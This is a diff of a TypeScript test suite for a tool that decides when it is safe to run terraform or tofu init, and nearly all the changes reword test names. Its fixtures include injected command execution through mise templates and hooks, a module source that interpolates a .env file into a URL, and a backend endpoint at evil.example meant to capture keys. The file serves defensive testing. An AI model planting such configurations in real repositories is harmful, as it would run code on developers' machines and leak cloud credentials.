@@ -15,7 +15,7 @@ import {
 } from "../../../fixtures/facts.ts";
 import { said } from "../../../fixtures/hint.ts";
 
-/** The plan of the files of the one root, and what is run after it. */
+/** The plan for the root's files, and the commands that run after it. */
 async function plan(given: Given | Promise<Given>) {
   const known = await facts({ config: "terraform: {}", ...(await given) });
   const [root] = known.terraform.roots;
@@ -54,39 +54,39 @@ async function done(more: Given["files"], given: Given = {}): Promise<Given> {
   return { ...rest, files: { ...files, ...more } };
 }
 
-describe("whether init is run", () => {
+describe("whether init runs", () => {
   it.each<[string, Given | Promise<Given>, readonly string[]]>([
     ["a new root", {}, ["terraform init"]],
     ["a new root, with tofu", { tools: ["tofu 1.11.0"] }, ["tofu init"]],
     ["no tool", { tools: [] }, []],
     ["a finished root that was not initialised", done({}), ["terraform init"]],
-    ["a finished root that was", done(INIT), []],
+    ["a finished root that was initialised", done(INIT), []],
     [
-      "init that failed at a provider",
+      "a root whose init failed at a provider",
       done({ "infra/.terraform/modules/x": "" }),
       ["terraform init"],
     ],
     [
-      "in another folder",
+      "an initialised root with TF_DATA_DIR",
       done({ "data/providers/x": "", ...LOCK_FILE }, { env: { TF_DATA_DIR: "/repo/data" } }),
       ["warning terraform.environment"],
     ],
     ...[".tool-versions", "infra/.tool-versions", ".terraform-version"].map(
       (name): [string, Promise<Given>, readonly string[]] => [
-        `a shim that ${name} tells to start a program of the repo`,
+        `${name} that makes a shim start a program in the repo`,
         done({ [name]: "nodejs 20\nterraform path:./tools\n" }),
         ["info terraform.by-hand"],
       ],
     ),
     [
-      "a template in a file for a shim, which mise works out",
+      ".tool-versions with a template, which mise evaluates",
       done({ ".tool-versions": 'terraform {{ exec(command="id") }}\n' }),
       ["info terraform.by-hand"],
     ],
     ...[
       ["env", '[tools]\nterraform = "1.11.4"\n[env]\nA = "b"\n'],
       ["a template", "[tools]\nterraform = \"{{ exec(command='id') }}\"\n"],
-      ["a program", '[tools]\nterraform = "path:./tools"\n'],
+      ["a program path", '[tools]\nterraform = "path:./tools"\n'],
       ["options", '[tools]\nterraform = { version = "1.11.4", postinstall = "id" }\n'],
       ["a table of options", '[tools.terraform]\nversion = "1.11.4"\n'],
       ["hooks", '[hooks]\nenter = "id"\n'],
@@ -94,7 +94,7 @@ describe("whether init is run", () => {
       ["a quoted section", '["env"]\nA = "b"\n'],
       ["a dotted key", 'env.A = "b"\n'],
     ].map(([what, text]): [string, Promise<Given>, readonly string[]] => [
-      `a config of mise with ${what}`,
+      `a mise config with ${what}`,
       done({ "mise.toml": text }),
       ["info terraform.by-hand"],
     ]),
@@ -106,12 +106,12 @@ describe("whether init is run", () => {
       ".config/mise/conf.d/a.toml",
       "infra/.mise/config.toml",
     ].map((name): [string, Promise<Given>, readonly string[]] => [
-      `a config of mise that is ${name}`,
+      `a mise config in ${name}`,
       done({ [name]: '[env]\nA = "b"\n' }),
       ["info terraform.by-hand"],
     ]),
     [
-      "a config of mise with releases and tasks",
+      "a mise config with versions and tasks",
       done({
         "mise.toml":
           'min_version = "2026.1"\n# ours\n[tools]\nterraform = "1.11.4" # all\nnode = ["24", "22"]\n[tasks.plan]\nrun = "terraform plan"\n',
@@ -124,12 +124,12 @@ describe("whether init is run", () => {
       ["terraform init"],
     ],
     [
-      "releases for a shim",
+      "version files with versions only",
       done({ ".tool-versions": "terraform 1.11.4\n", "infra/.terraform-version": "1.11.4\n" }),
       ["terraform init"],
     ],
     [
-      "providers that somebody installed beside a state",
+      "installed providers and a local state",
       done({
         ...INIT,
         "infra/versions.tf": undefined,
@@ -138,21 +138,21 @@ describe("whether init is run", () => {
       ["info terraform.by-hand"],
     ],
     [
-      "and beside the states of workspaces",
+      "installed providers and local states of workspaces",
       done({ ...INIT, "infra/versions.tf": undefined, "infra/terraform.tfstate.d/a/x": "" }),
       ["info terraform.by-hand"],
     ],
     [
-      "a state, and no providers yet",
+      "a local state, and no providers yet",
       done({ "infra/terraform.tfstate": '{"resources":[{}]}' }),
       ["terraform init"],
     ],
     ["init: false", { config: "terraform: { init: false }" }, []],
     ["versions.tf changes", done({ ...INIT, "infra/versions.tf": undefined }), ["terraform init"]],
-    ["provider.tf alone changes", done({ ...INIT, "infra/provider.tf": undefined }), []],
-    ["what was missing changes", { files: { ...INIT, "infra/main.tf": "" } }, ["terraform init"]],
-    ["code that is not understood", { files: { "infra/main.tf": "a {" } }, []],
-    ["no code, and nothing to write", { files: { infra: { leadsTo: "/else" } } }, []],
+    ["only provider.tf changes", done({ ...INIT, "infra/provider.tf": undefined }), []],
+    ["do-bootstrap.tf changes", { files: { ...INIT, "infra/main.tf": "" } }, ["terraform init"]],
+    ["code that can't be parsed", { files: { "infra/main.tf": "a {" } }, []],
+    ["a root that is a link to outside the repo", { files: { infra: { leadsTo: "/else" } } }, []],
   ])("%s", async (_, given, expected) => {
     expect(planned((await plan(given)).part)).toEqual(expected);
   });
@@ -162,41 +162,41 @@ it.each([
   ["mise.toml", true, ["/repo/mise.toml"]],
   ["mise.toml", false, []],
   [".tool-versions", false, ["/repo/.tool-versions"]],
-])("%s, where a shim may be started: %s", async (name, startsShim, expected) => {
+])("the repo's code in %s, if a shim may start: %s", async (name, startsShim, expected) => {
   const text = "[tools]\nterraform path:./tools\n";
   const host = { files: filesOf({ files: { [name]: text } }), env: {}, home: "/home/sammy" };
   const found = await repoCodeFor(host, ["/repo/infra"], "/repo", () => startsShim);
   expect(found.get("/repo/infra")).toEqual(expected);
 });
 
-describe("where it is not certain which tool is used", () => {
+describe("when it is not certain which tool is used", () => {
   const tofu = { tools: ["tofu 1.12.0"] };
   const local = 'module "a" {\n  source = "./a"\n}\n';
   const hand = ["info terraform.by-hand"];
 
   it.each<[string, Given | Promise<Given>, readonly string[]]>([
     [
-      "tofu, and no file of its own",
+      "tofu, and no .tofu file",
       done({ "infra/b.tf": local, "infra/a/b.tf": "" }, tofu),
       ["tofu init"],
     ],
     [
-      "a file of its own",
+      "tofu, and a .tofu file",
       done({ "infra/b.tf": local, "infra/a/b.tf": "", "infra/c.tofu": "" }, tofu),
       hand,
     ],
     [
-      "a file of its own in a module",
+      "tofu, and a .tofu file in a module",
       done({ "infra/b.tf": local, "infra/a/b.tf": "", "infra/a/b.tofu": "" }, tofu),
       hand,
     ],
     [
-      "terraform, which does not read it",
+      "terraform, which does not read the .tofu file",
       done({ "infra/b.tf": "", "infra/c.tofu": "" }),
       ["terraform init"],
     ],
     [
-      "config says tofu, whose files were read",
+      "tofu in the config, and a .tofu file",
       done(
         { "infra/b.tf": local, "infra/a/b.tofu": "" },
         { ...tofu, config: "terraform: { tool: tofu }" },
@@ -208,7 +208,7 @@ describe("where it is not certain which tool is used", () => {
   });
 });
 
-describe("where init would run or send what the repo says", () => {
+describe("when init would run code or send data that the repo sets", () => {
   const tofu = { tools: ["tofu 1.11.0"] };
   const module = (source: string, more = "") => `module "a" {\n  source = ${source}\n${more}}\n`;
   const made = module('"https://a.example/?${file(".env")}"');
@@ -226,47 +226,51 @@ describe("where init would run or send what the repo says", () => {
       ".terraform.lock.hcl",
       "terraform.tfstate.d",
     ].map((name): [string, Given, readonly string[]] => [
-      `a link out of the repo at ${name}`,
+      `a link to outside the repo at ${name}`,
       { files: { "infra/a.tf": "", [`infra/${name}`]: { text: "", leadsTo: `/else/${name}` } } },
       byHand,
     ]),
-    ["a module that another host has", { files: { "infra/a.tf": far } }, ["terraform init"]],
+    ["a remote module", { files: { "infra/a.tf": far } }, ["terraform init"]],
     [
-      "the same, where sources are worked out",
+      "a remote module, with a version that evaluates sources",
       { tools: ["terraform 1.15.0"], files: { "infra/a.tf": far } },
       byHand,
     ],
-    ["a release that is not said", { tools: ["terraform"], files: { "infra/a.tf": far } }, byHand],
-    ["the same, with tofu", { ...tofu, files: { "infra/a.tf": far } }, byHand],
     [
-      "a module of the repo, with tofu",
+      "a remote module, with an unknown version",
+      { tools: ["terraform"], files: { "infra/a.tf": far } },
+      byHand,
+    ],
+    ["a remote module, with tofu", { ...tofu, files: { "infra/a.tf": far } }, byHand],
+    [
+      "a local module, with tofu",
       { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tf": "locals {\n}\n" } },
       ["tofu init"],
     ],
-    ["a source that is made", { ...tofu, files: { "infra/a.tf": made } }, byHand],
+    ["a source from an expression", { ...tofu, files: { "infra/a.tf": made } }, byHand],
     [
-      "one in a module of the repo",
+      "a source from an expression, in a local module",
       { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tofu": made } },
       byHand,
     ],
     [
-      "one that there is none of",
+      "a local module that does not exist",
       { ...tofu, files: { "infra/a.tf": module('"./x"', "count = 0\n") } },
       byHand,
     ],
     [
-      "one in JSON, with escapes",
+      "a remote module in JSON, with escapes",
       { ...tofu, files: { "infra/a.tf.json": '{"\\u006dodule": {"a": {"source": "a/b/c"}}}' } },
       byHand,
     ],
-    ["one in a test", { ...tofu, files: { "infra/tests/a.tftest.hcl": "" } }, byHand],
+    ["a test file", { ...tofu, files: { "infra/tests/a.tftest.hcl": "" } }, byHand],
     [
-      "a module that is not understood",
+      "a local module that can't be parsed",
       { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tf": "module {" } },
       byHand,
     ],
     [
-      "encryption by a program",
+      "encryption with an external program",
       {
         ...tofu,
         files: { "infra/a.tf": block('encryption {\n    key_provider "external" "x" {}\n  }') },
@@ -274,24 +278,24 @@ describe("where init would run or send what the repo says", () => {
       byHand,
     ],
     [
-      "a block of a later release, in JSON",
+      "a block of a later version, in JSON",
       { files: { "infra/a.tf.json": '{"terraform": {"state_store": {"x": {}}}}' } },
       byHand,
     ],
     [
-      "notes of another backend than the code's",
+      "stored settings of a backend other than the code's",
       {
         files: { "infra/a.tf": local, "infra/.terraform/terraform.tfstate": stored("kubernetes") },
       },
       byHand,
     ],
     [
-      "notes of the code's local one",
+      "stored settings of the code's local backend",
       { files: { "infra/a.tf": local, "infra/.terraform/terraform.tfstate": stored("local") } },
       ["terraform init"],
     ],
     [
-      "providers, and a state that may be anywhere",
+      "installed providers, and a local backend with a path",
       { files: { ...INIT, "infra/a.tf": block('backend "local" {\n    path = "x"\n  }') } },
       byHand,
     ],
@@ -299,7 +303,7 @@ describe("where init would run or send what the repo says", () => {
     expect(planned((await plan(given)).part)).toEqual(expected);
   });
 
-  it("what leads into the repo is not passed on", async () => {
+  it("variables that point into the repo are not passed on", async () => {
     const env = {
       PATH: "/repo/node_modules/.bin:/usr/bin",
       GIT_CONFIG_GLOBAL: "/repo/gitconfig",
@@ -326,29 +330,29 @@ describe("with a state on Spaces", () => {
   it.each<[string, Given | Promise<Given>, readonly string[]]>([
     ["a new root", given, ["terraform init"]],
     ["without keys", { config: BACKEND }, []],
-    ["with a profile of AWS", { config: BACKEND, env: { AWS_PROFILE: "x" } }, ["terraform init"]],
+    ["with an AWS profile", { config: BACKEND, env: { AWS_PROFILE: "x" } }, ["terraform init"]],
     ["connected", done(NOTED, given), []],
     [
-      "a local backend of the repo's own",
+      "the repo's local backend",
       done({ ...INIT, "infra/main.tf": 'terraform {\n  backend "local" {}\n}\n' }, given),
       [],
     ],
-    ["providers, and not connected", done(INIT, given), ["terraform init"]],
-    ["a state in the folder, which has to be moved", done({ ...INIT, ...local }, given), []],
+    ["installed providers, but not connected", done(INIT, given), ["terraform init"]],
+    ["a local state, which has to be migrated", done({ ...INIT, ...local }, given), []],
     [
-      "a state with nothing in it",
+      "an empty local state",
       done({ ...INIT, "infra/terraform.tfstate": "{}" }, given),
       ["terraform init"],
     ],
-    ["a state elsewhere", done(elsewhere, given), []],
+    ["a state in another bucket", done(elsewhere, given), []],
     [
-      "backend.tf changes, the place stays",
+      "backend.tf changes, but not the state's place",
       done({ ...NOTED, "infra/backend.tf": undefined }, given),
       ["terraform init -reconfigure"],
     ],
-    ["a lock that was not there", done(NOTED, locked), ["terraform init -reconfigure"]],
+    ["a new lock", done(NOTED, locked), ["terraform init -reconfigure"]],
     [
-      "a lock that is there",
+      "an existing lock",
       done(
         { ...INIT, "infra/.terraform/terraform.tfstate": noted({ use_lockfile: true }) },
         locked,
@@ -356,7 +360,7 @@ describe("with a state on Spaces", () => {
       [],
     ],
     [
-      "a block of the repo's own",
+      "the repo's backend block",
       done({ ...NOTED, "infra/backend.tf": undefined, "infra/main.tf": own }, given),
       [],
     ],
@@ -365,7 +369,7 @@ describe("with a state on Spaces", () => {
   });
 });
 
-describe("a backend that may take keys elsewhere", () => {
+describe("a backend that could send keys to another host", () => {
   const evil = 'endpoints = { s3 = "https://evil.example" }';
   const block = (body: string, type = "s3") =>
     `terraform {\n  backend "${type}" {\n    ${body}\n  }\n}\n`;
@@ -379,21 +383,29 @@ describe("a backend that may take keys elsewhere", () => {
   const AWS = { ".env": "AWS_ACCESS_KEY_ID=a\nAWS_SECRET_ACCESS_KEY=b\n" };
 
   it.each<[string, Given | Promise<Given>, readonly string[]]>([
-    ["noted as ours", done(changed({}), prod), ["terraform workspace select -or-create prod"]],
     [
-      "noted with a host for another service",
+      "stored settings as in the config",
+      done(changed({}), prod),
+      ["terraform workspace select -or-create prod"],
+    ],
+    [
+      "stored settings with a host for another service",
       done(changed({ sts_endpoint: "https://evil.example" }), prod),
       ["info terraform.by-hand"],
     ],
-    ["noted with a profile", done(changed({ profile: "x" }), prod), ["info terraform.by-hand"]],
     [
-      "in an override file, beside a local one",
+      "stored settings with a profile",
+      done(changed({ profile: "x" }), prod),
+      ["info terraform.by-hand"],
+    ],
+    [
+      "in an override file, next to a local backend",
       {
         files: { "infra/main.tf": block("", "local"), "infra/x_override.tf": block(evil) },
       },
       ["info terraform.by-hand"],
     ],
-  ])("%s: no command is run with keys", async (_, each, expected) => {
+  ])("%s: the commands that run", async (_, each, expected) => {
     expect(planned((await plan(each)).part)).toEqual(expected);
   });
 
@@ -401,7 +413,7 @@ describe("a backend that may take keys elsewhere", () => {
     ["on Spaces", { ...given, files: { "infra/main.tf": block(`${SAME}\n ${ON_SPACES}`) } }, ""],
     ["on another host", { ...given, files: { "infra/main.tf": block(evil) } }, "SPACES_* keys"],
     [
-      "on Spaces with a profile, and config has none",
+      "on Spaces with a profile, and no backend in the config",
       {
         ...{ config: "terraform: {}", env: KEYS },
         files: { "infra/main.tf": block(`${ON_SPACES}\n profile = "x"`) },
@@ -409,14 +421,14 @@ describe("a backend that may take keys elsewhere", () => {
       "SPACES_* keys",
     ],
     [
-      "on AWS, and config has none",
+      "on AWS, and no backend in the config",
       { config: "terraform: {}", env: KEYS, files: { "infra/main.tf": block(SAME) } },
       "",
     ],
     ["on AWS", { ...given, files: { "infra/main.tf": block(SAME) } }, "SPACES_* keys"],
     ["a forged backend.tf", { ...given, files: { "infra/backend.tf": FORGED } }, "SPACES_* keys"],
     [
-      "on another host, with keys of AWS in the env file",
+      "on another host, with AWS keys in the env file",
       { config: "terraform: {}", files: { "infra/main.tf": block(evil), ...AWS } },
       "AWS_* keys",
     ],
@@ -429,7 +441,7 @@ describe("a backend that may take keys elsewhere", () => {
       "AWS_* keys",
     ],
     [
-      "on another host, in a file whose twin is read in its place",
+      "on another host, in a .tf file that a .tofu file replaces",
       {
         config: "terraform: { tool: tofu }",
         files: { "infra/b.tf": block(evil), "infra/b.tofu": "", ...AWS },
@@ -437,12 +449,12 @@ describe("a backend that may take keys elsewhere", () => {
       "AWS_* keys",
     ],
     [
-      "on AWS, with keys of AWS in the env file",
+      "on AWS, with AWS keys in the env file",
       { config: "terraform: {}", files: { "infra/main.tf": block(SAME), ...AWS } },
       "",
     ],
     ["on another host, without keys", { files: { "infra/main.tf": block(evil) } }, ""],
-  ])("%s: what is kept back is said", async (_, each, kept) => {
+  ])("%s: withheld keys are reported", async (_, each, kept) => {
     const { files } = await plan(each);
     const found = files.findings.find(({ id }) => id === "backend.not-spaces");
     expect(found?.message ?? "").toContain(kept);
@@ -454,16 +466,20 @@ describe("the workspace", () => {
   const prod = "terraform: { workspace: prod }";
 
   it.each<[string, Given | Promise<Given>, readonly string[]]>([
-    ["none is asked for", done(selected("x")), []],
-    ["selected", done(selected("prod\n"), { config: prod }), []],
+    ["none is configured", done(selected("x")), []],
+    ["the configured one is selected", done(selected("prod\n"), { config: prod }), []],
     [
-      "another is",
+      "another one is selected",
       done(selected("x"), { config: prod }),
       ["terraform workspace select -or-create prod"],
     ],
-    ["none is", done(INIT, { config: prod }), ["terraform workspace select -or-create prod"]],
     [
-      "default is asked for, and none selected",
+      "none is selected",
+      done(INIT, { config: prod }),
+      ["terraform workspace select -or-create prod"],
+    ],
+    [
+      "default is configured, and none is selected",
       done(INIT, { config: "terraform: { workspace: default }" }),
       [],
     ],
@@ -482,36 +498,40 @@ describe("variables that change what Terraform does", () => {
 
   it.each<[string, Given | Promise<Given>, readonly string[]]>([
     [
-      "TF_WORKSPACE of another",
+      "TF_WORKSPACE with another workspace",
       done(selected("a"), { config: "terraform: { workspace: a }", env: { TF_WORKSPACE: "b" } }),
       warned,
     ],
     [
-      "TF_WORKSPACE of the same",
+      "TF_WORKSPACE with the same workspace",
       done(selected("a"), { config: "terraform: { workspace: a }", env: { TF_WORKSPACE: "a" } }),
       [],
     ],
-    ["TF_WORKSPACE, and config says nothing", done(INIT, { env: { TF_WORKSPACE: "b" } }), []],
+    [
+      "TF_WORKSPACE, and no workspace in the config",
+      done(INIT, { env: { TF_WORKSPACE: "b" } }),
+      [],
+    ],
     ["TF_CLI_ARGS", done(INIT, { env: { TF_CLI_ARGS: "-x" } }), warned],
     [
-      "TF_CLI_ARGS of two commands",
+      "TF_CLI_ARGS_ for two commands",
       done(INIT, { env: { TF_CLI_ARGS_plan: "-x", TF_CLI_ARGS_apply: "-x" } }),
       [...warned, ...warned],
     ],
-    ["TF_CLI_ARGS, empty", done(INIT, { env: { TF_CLI_ARGS: "" } }), []],
+    ["an empty TF_CLI_ARGS", done(INIT, { env: { TF_CLI_ARGS: "" } }), []],
     ["TF_CLI_CONFIG_FILE", done(INIT, { env: { TF_CLI_CONFIG_FILE: "x" } }), []],
     ["the token's variable", done(INIT, { env: { TF_VAR_do_token: "" } }), warned],
     [
-      "the token's variable, under env",
+      "the token's variable, with credentials: env",
       done(INIT, { config: "terraform: { credentials: env }", env: { TF_VAR_do_token: "x" } }),
       [],
     ],
-    ["without a tool, of no matter", done(INIT, { tools: [], env: { TF_CLI_ARGS: "-x" } }), []],
+    ["TF_CLI_ARGS without a tool", done(INIT, { tools: [], env: { TF_CLI_ARGS: "-x" } }), []],
   ])("%s", async (_, given, expected) => {
     expect(planned((await plan(given)).part)).toEqual(expected);
   });
 
-  it("are to be unset", async () => {
+  it("get a fix that unsets them", async () => {
     const { part } = await plan(done(INIT, { env: { TF_CLI_ARGS_plan: "-x" } }));
     expect(said(part.findings?.[0]?.fix)).toBe("unset TF_CLI_ARGS_plan");
   });
@@ -557,7 +577,7 @@ describe("the environment of a command", () => {
       [],
     ],
     [
-      "the keys of the state, under the names that the backend reads",
+      "the state's keys, under the names that the backend reads",
       { config: BACKEND, env: KEYS },
       [],
       [
@@ -575,12 +595,12 @@ describe("the environment of a command", () => {
     expect(command?.args).toEqual(expect.arrayContaining(["-no-color", "-input=false"]));
   });
 
-  // OpenTofu evaluates what a module's source says, with the values of tfvars files.
+  // OpenTofu evaluates a module's source with the values of tfvars files.
   it.each<[string, Given, readonly string[]]>([
     ["terraform", {}, []],
     ["tofu", { tools: ["tofu 1.11.0"] }, ["-var=do_token="]],
     [
-      "tofu, and a token under names of the repo's own",
+      "tofu, and tokens in the repo's own variables",
       {
         tools: ["tofu 1.11.0"],
         files: {
@@ -591,7 +611,7 @@ describe("the environment of a command", () => {
       ["-var=pat=", "-var=eu="],
     ],
     [
-      "tofu, and Spaces keys in variables, of which one is declared",
+      "tofu, and Spaces keys in two variables, one of them declared",
       {
         ...{ tools: ["tofu 1.11.0"], config: "terraform: { credentials: env }" },
         files: {
@@ -601,13 +621,17 @@ describe("the environment of a command", () => {
       },
       ["-var=b="],
     ],
-    ["tofu, under env", { tools: ["tofu 1.11.0"], config: "terraform: { credentials: env }" }, []],
-  ])("%s: the token's variables are empty", async (_, given, expected) => {
+    [
+      "tofu, with credentials: env",
+      { tools: ["tofu 1.11.0"], config: "terraform: { credentials: env }" },
+      [],
+    ],
+  ])("variables set to empty: %s", async (_, given, expected) => {
     const [command] = (await plan(given)).part.commands ?? [];
     expect(command?.args.filter((arg) => arg.startsWith("-var"))).toEqual(expected);
   });
 
-  it("is without the secrets of the run, by their value, and with the keys that it needs", async () => {
+  it("removes the run's secrets by value, and sets the keys that it needs", async () => {
     const envFile = `A_PASSWORD=hunter2\nREGION=nyc3\nAWS_SECRET_ACCESS_KEY=aws-key\n`;
     const env = { SPACES_SECRET_ACCESS_KEY: "spaces-key", AWS_ACCESS_KEY_ID: "aws-id" };
     const of = async (config: string) => {
@@ -633,7 +657,7 @@ describe("the environment of a command", () => {
     expect(await of("terraform: {}")).toEqual([names, new Map()]);
   });
 
-  it("keys are hidden", async () => {
+  it("does not show keys", async () => {
     const [command] = (await plan({ config: BACKEND, env: KEYS })).part.commands ?? [];
     expect(JSON.stringify([...(command?.with ?? [])])).not.toContain("s3cr3t");
   });
@@ -641,9 +665,13 @@ describe("the environment of a command", () => {
 
 it.each<[string, Given, readonly RegExp[]]>([
   ["providers", {}, [/provider/]],
-  ["and a state", { config: BACKEND, env: KEYS }, [/provider.*state/]],
-  ["and a workspace", { config: "terraform: { workspace: a }" }, [/provider/, /workspace a/]],
-])("why: %s", async (_, given, why) => {
+  ["providers and a state", { config: BACKEND, env: KEYS }, [/provider.*state/]],
+  [
+    "providers and a workspace",
+    { config: "terraform: { workspace: a }" },
+    [/provider/, /workspace a/],
+  ],
+])("the reason: %s", async (_, given, why) => {
   const { commands = [] } = (await plan(given)).part;
   expect(commands.map((each) => each.why)).toEqual(why.map((each) => expect.stringMatching(each)));
 });
